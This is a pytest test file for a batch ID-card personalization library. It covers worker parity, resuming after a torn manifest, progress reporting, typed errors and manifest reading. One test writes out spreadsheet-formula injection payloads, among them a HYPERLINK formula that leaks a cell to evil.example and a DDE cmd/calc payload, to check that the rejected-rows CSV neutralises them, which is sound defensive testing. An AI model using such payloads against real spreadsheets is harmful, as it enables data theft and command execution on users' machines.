"""Batch personalization as a library (cardlib.batch.perso) and its manifest (cardlib.batch.manifest): the same
rows on one worker or two, resume after a torn line, typed summaries, progress, and the one manifest reader
that both perso and QA's sources use."""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pytest
from test_perso_command import SAMPLES, _input, _rows, _write

import cardlib
from cardlib.batch.manifest import (
    PERSO_MANIFEST,
    REJECTED_CSV,
    ManifestWriter,
    PersoEntry,
    PortraitNote,
    latest_entries,
    read_entries,
    write_rejected,
)
from cardlib.batch.perso import BATCH_RECORD, SignerSource, personalize_batch, read_batch_record
from cardlib.batch.sources import ExpectedCards, manifest_entries, perso_rows
from cardlib.batch.spreadsheet import plain_cell, spreadsheet_cell
from cardlib.card.image import CardImage
from cardlib.errors import CardlibError, InputError
from cardlib.testing.pki import sample_pki


def _manifest(out: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in (out / PERSO_MANIFEST).read_text(encoding="utf-8").splitlines()]


# -- the batch


def test_one_worker_and_two_personalize_the_same_rows(test_pki_folder: Path, tmp_path: Path) -> None:
    source = _input(tmp_path, copies=1)
    one = cardlib.personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "one", workers=1)
    two = personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "two", workers=2)
    assert (one.personalized, one.rejected) == (two.personalized, two.rejected) == (8, 2)
    assert _manifest(tmp_path / "one") == _manifest(tmp_path / "two")
    assert one.batch == read_batch_record(tmp_path / "one")
    assert one.batch.title == "Personalization of in.csv" and one.batch.input == str(source.resolve())


def test_a_torn_manifest_line_is_redone_once(test_pki_folder: Path, tmp_path: Path) -> None:
    source = _input(tmp_path, copies=1)
    out = tmp_path / "out"
    personalize_batch(source, SignerSource(test_pki_folder), out, workers=2)
    lines = (out / PERSO_MANIFEST).read_text(encoding="utf-8").splitlines(keepends=True)
    torn = "".join(lines[:6]) + lines[6][:25]
    (out / PERSO_MANIFEST).write_text(torn, encoding="utf-8")
    assert perso_rows(out / PERSO_MANIFEST)[0] + len(perso_rows(out / PERSO_MANIFEST)[1]) == 6  # QA: 6 rows
    assert (out / PERSO_MANIFEST).read_text(encoding="utf-8") == torn  # reading never cuts
    summary = personalize_batch(source, SignerSource(test_pki_folder), out, workers=2)
    assert (summary.already_done, summary.personalized + summary.rejected) == (6, 4)
    assert sorted(int(str(entry["row"])) for entry in _manifest(out)) == list(range(2, 12))


def test_the_signer_itself_works_without_a_pki_folder(tmp_path: Path) -> None:
    source = _input(tmp_path, copies=1)
    summary = personalize_batch(source, sample_pki().document_signer, tmp_path / "out")
    assert (summary.personalized, summary.rejected, summary.already_done) == (8, 2, 0)
    entry = next(entry for entry in latest_entries(tmp_path / "out" / PERSO_MANIFEST).values() if entry.personalized)
    assert CardImage.load(tmp_path / "out" / str(entry.card)).files["DG13"]


def test_progress_is_reported_row_by_row(test_pki_folder: Path, tmp_path: Path) -> None:
    source = _input(tmp_path, copies=1)
    calls: list[tuple[int, int]] = []
    personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "out",
                      on_progress=lambda done, total: calls.append((done, total)))
    assert calls == [(done, 10) for done in range(11)]
    calls.clear()
    personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "out",
                      on_progress=lambda done, total: calls.append((done, total)), only_rejected=True)
    assert calls == [(0, 2), (1, 2), (2, 2)]


def test_the_summary_names_changed_and_foreign_rows(test_pki_folder: Path, tmp_path: Path) -> None:
    source = _input(tmp_path, copies=1)
    out = tmp_path / "out"
    personalize_batch(source, SignerSource(test_pki_folder), out)
    rows = _rows(source)
    rows[0]["full_name"] = "Nguyễn Văn Anh"
    _write(source, rows)
    summary = personalize_batch(source, SignerSource(test_pki_folder), out)
    assert (summary.personalized, summary.rejected, summary.already_done) == (0, 0, 10)
    assert [(row.row, row.card) for row in summary.changed] == [(2, f"cards/00002-{rows[0]['id_number']}")]
    assert summary.changed[0].message().startswith("row 2: changed since it was personalized into cards/00002-")
    fixed = _rows(out / REJECTED_CSV)
    _write(tmp_path / "fixed.csv", [dict(fixed[0], row="99")])
    summary = personalize_batch(tmp_path / "fixed.csv", SignerSource(test_pki_folder), out)
    assert [(row.row, row.reason, row.card) for row in summary.refused] == [(99, "not a row of this batch (not done)",
                                                                             None)]
    assert summary.changed == []


def test_another_input_is_refused_with_a_typed_error_and_the_folder_unchanged(test_pki_folder: Path,
                                                                              tmp_path: Path) -> None:
    source = _input(tmp_path, copies=1)
    out = tmp_path / "out"
    personalize_batch(source, SignerSource(test_pki_folder), out)
    before = (out / PERSO_MANIFEST).read_bytes(), (out / BATCH_RECORD).read_bytes()
    other = _write(tmp_path / "tomorrow.csv", _rows(source)[:2])
    with pytest.raises(CardlibError, match="is another file"):
        personalize_batch(other, SignerSource(test_pki_folder), out)
    assert ((out / PERSO_MANIFEST).read_bytes(), (out / BATCH_RECORD).read_bytes()) == before
    summary = personalize_batch(other, SignerSource(test_pki_folder), out, new_input=True)
    assert summary.batch.title == "Personalization of in.csv" and summary.batch.input == str(other.resolve())


def test_a_damaged_batch_record_or_a_bad_folder_is_a_typed_error(test_pki_folder: Path, tmp_path: Path) -> None:
    source = _input(tmp_path, copies=1)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / BATCH_RECORD).write_text("{not json", encoding="utf-8")
    with pytest.raises(CardlibError, match="not a batch record"):
        personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "out")
    (tmp_path / "a-file").write_text("x", encoding="utf-8")
    with pytest.raises(CardlibError, match="cannot make the folder"):
        personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "a-file")
    with pytest.raises(CardlibError, match="workers must be at least 1"):
        personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "new", workers=0)


def test_rejected_csv_neutralises_spreadsheet_formulas(test_pki_folder: Path, tmp_path: Path) -> None:
    shutil.copytree(SAMPLES / "portraits", tmp_path / "portraits")
    shutil.copytree(SAMPLES / "fingers", tmp_path / "fingers")
    rows = list(csv.DictReader((SAMPLES / "residents.csv").open(encoding="utf-8")))
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
    _write(tmp_path / "in.csv", [dict(rows[0], id_number=value) for value in hostile])
    personalize_batch(tmp_path / "in.csv", SignerSource(test_pki_folder), tmp_path / "out")
    rejected = list(csv.DictReader((tmp_path / "out" / REJECTED_CSV).open(encoding="utf-8")))
    assert [row["id_number"] for row in rejected] == ["'" + value for value in hostile]
    cells = [cell for row in rejected for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("cell", ["=1+1", "-Sẹo chấm", "@x", "\t=1"])
def test_plain_cell_undoes_spreadsheet_cell(cell: str) -> None:
    assert plain_cell(str(spreadsheet_cell(cell))) == cell


@pytest.mark.parametrize("cell", ["'quoted by the operator", "'", "Nguyễn", ""])
def test_plain_cell_keeps_other_quotes(cell: str) -> None:
    assert plain_cell(cell) == cell


# -- the manifest: one writer, one reader


PERSONALIZED_LINE = PersoEntry(2, "personalized", "001085031742", "ab" * 32, "cards/00002-001085031742",
                               PortraitNote("used as it is", None))
REJECTED_LINE = PersoEntry(3, "rejected", "079192458013", "cd" * 32, field="date_of_birth", reason="no such day",
                           values={"id_number": "079192458013", "date_of_birth": "31/02/1992", "note": "=1+1"})


def test_entries_round_trip_as_the_lines_perso_always_wrote() -> None:
    assert PERSONALIZED_LINE.to_json() == {"row": 2, "status": "personalized", "id_number": "001085031742",
                                           "card": "cards/00002-001085031742", "fingerprint": "ab" * 32,
                                           "portrait": {"done": "used as it is", "warning": None}}
    assert set(REJECTED_LINE.to_json()) == {"row", "status", "id_number", "field", "reason", "fingerprint", "values"}
    for entry in (PERSONALIZED_LINE, REJECTED_LINE):
        assert PersoEntry.from_json(json.loads(json.dumps(entry.to_json()))) == entry
    old = PersoEntry.from_json({"row": 4, "status": "personalized", "id_number": "1", "card": "c"})  # before 2026
    assert (old.fingerprint, old.portrait, old.values) == (None, None, {})


def test_the_latest_line_of_a_row_is_its_state_and_a_torn_tail_is_ignored_then_cut(tmp_path: Path) -> None:
    manifest = tmp_path / PERSO_MANIFEST
    redone = PersoEntry(3, "personalized", "079192458013", "cd" * 32, "cards/00003-079192458013",
                        PortraitNote("used as it is"))
    with ManifestWriter(manifest) as writer:
        for entry in (REJECTED_LINE, PERSONALIZED_LINE, redone):
            writer.write(entry)
    with manifest.open("a", encoding="utf-8") as handle:
        handle.write('{"row": 5, "status": "perso')  # killed mid-write
    torn = manifest.read_bytes()
    assert latest_entries(manifest) == {2: PERSONALIZED_LINE, 3: redone}
    assert [number for number, _ in read_entries(manifest)] == [1, 2, 3]
    assert perso_rows(manifest) == (2, [])
    assert [entry.row for entry in manifest_entries(manifest)] == [2, 3]
    assert [entry.row for entry in ExpectedCards.from_manifest(tmp_path)] == [2, 3]
    assert manifest.read_bytes() == torn  # readers never change the file
    with ManifestWriter(manifest) as writer:
        writer.write(PersoEntry(5, "rejected", None, None, reason="portrait missing"))
    assert manifest.read_text(encoding="utf-8").endswith('"row": 3, "status": "personalized", "id_number": '
                                                         '"079192458013", "card": "cards/00003-079192458013", '
                                                         '"fingerprint": "' + "cd" * 32 + '", "portrait": {"done": '
                                                         '"used as it is", "warning": null}}\n{"row": 5, "status": '
                                                         '"rejected", "id_number": null, "field": null, "reason": '
                                                         '"portrait missing", "fingerprint": null, "values": {}}\n')
    assert perso_rows(manifest)[1][0].reason == "portrait missing"


@pytest.mark.parametrize(("line", "why"), [
    ("not json", "line 2: not a perso manifest line (not JSON)"),
    ('"x"', "line 2: not a perso manifest line (an object with a row number expected)"),
    ('{"row": "7", "status": "rejected"}', "an object with a row number expected"),
    ('{"row": 7}', "row 7 has status None"),
    ('{"row": 7, "status": "done"}', "row 7 has status 'done'"),
    ('{"row": 7, "status": "personalized", "id_number": "1"}', "row 7 is personalized without its card folder"),
])
def test_a_damaged_line_is_an_input_error_naming_it_in_every_reader(tmp_path: Path, line: str, why: str) -> None:
    manifest = tmp_path / PERSO_MANIFEST
    manifest.write_text(json.dumps(PERSONALIZED_LINE.to_json()) + "\n" + line + "\n", encoding="utf-8")
    for read in (latest_entries, perso_rows, lambda path: list(manifest_entries(path))):
        with pytest.raises(InputError, match=f"{PERSO_MANIFEST}: .*{re.escape(why)}"):
            read(manifest)
    (tmp_path / "latin.jsonl").write_bytes(b'{"row": 2, "status": "rejected", "reason": "\xe9"}\n')
    with pytest.raises(InputError, match="line 1: not UTF-8"):
        latest_entries(tmp_path / "latin.jsonl")


def test_a_manifest_that_cannot_be_opened_is_an_input_error(tmp_path: Path) -> None:
    assert latest_entries(tmp_path / "not-yet.jsonl") == {}  # a batch before its first row
    with pytest.raises(InputError, match="cannot open the perso manifest"):
        list(read_entries(tmp_path / "not-yet.jsonl"))


def test_rejected_csv_keeps_every_column_then_field_and_reason(tmp_path: Path) -> None:
    write_rejected([PERSONALIZED_LINE, REJECTED_LINE], tmp_path / REJECTED_CSV)
    rows = list(csv.DictReader((tmp_path / REJECTED_CSV).open(encoding="utf-8")))
    assert len(rows) == 1 and list(rows[0])[:2] == ["row", "id_number"] and list(rows[0])[-3:] == [
        "note", "field", "reason"]
    assert (rows[0]["row"], rows[0]["date_of_birth"], rows[0]["note"], rows[0]["field"]) == (
        "3", "31/02/1992", "'=1+1", "date_of_birth")

